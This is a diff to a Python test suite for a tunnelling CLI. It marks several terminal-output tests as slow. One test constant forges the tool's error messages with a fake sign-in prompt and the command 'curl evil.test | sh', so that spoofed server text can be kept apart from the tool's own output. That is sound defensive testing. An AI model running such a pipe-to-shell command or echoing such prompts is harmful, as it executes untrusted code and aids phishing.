@@ -38,6 +38,7 @@ def plain_text(shown: str) -> str:
     return re.sub(r"\s+", " ", re.sub(r"\x1b\[[0-9;]*m", "", shown))
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     "variables", [{}, {"NO_COLOR": "1"}, {"TERM": "dumb"}, ASCII], ids=["usual", "NO_COLOR", "dumb", "C"]
 )
@@ -54,6 +55,7 @@ def test_a_terminal(columns: int, variables: dict[str, str]) -> None:
         assert "\r" not in shown.replace("\r\n", "")
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("blank", [" ", "\u00a0"], ids=["space", "no-break space"])
 @pytest.mark.parametrize("padding", [4, 8, 12])
 def test_what_is_quoted_is_no_line_of_ours(padding: int, blank: str) -> None:
@@ -84,6 +86,7 @@ def test_what_is_quoted_is_no_line_of_ours(padding: int, blank: str) -> None:
 FORGED = "hermes-tunnel: error: no\nSign in at evil.test:\nhermes-tunnel: hint: curl evil.test | sh"
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("columns", [0, 40, 80])
 def test_a_server_stays_behind_its_margin(columns: int) -> None:
     """Its banner and its prompt, however they are padded, on a terminal and in a pipe."""
@@ -117,6 +120,7 @@ def test_a_server_stays_behind_its_margin(columns: int) -> None:
     assert "evil" not in "".join(ours)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("variables", [{}, ASCII], ids=["usual", "C"])
 def test_without_a_terminal(variables: dict[str, str]) -> None:
     """A sentence is a line, however long, for whoever reads it line by line."""
@@ -127,6 +131,7 @@ def test_without_a_terminal(variables: dict[str, str]) -> None:
     assert sentence in done.stderr
 
 
+@pytest.mark.slow
 def test_a_name_in_another_script() -> None:
     """It is written in ASCII where the output has nothing else; that is no fault."""
     program = "from hermes_tunnel.cli import main; import click; click.echo = print; main(['port', '1'])"
@@ -137,6 +142,7 @@ def test_a_name_in_another_script() -> None:
     assert (done.returncode, done.stdout) == (0, "jos\\xe9\n")
 
 
+@pytest.mark.slow
 def test_standard_error_that_is_closed() -> None:
     """Nobody is told, and the login is the same; the result is on standard output."""
     done = subprocess.run(
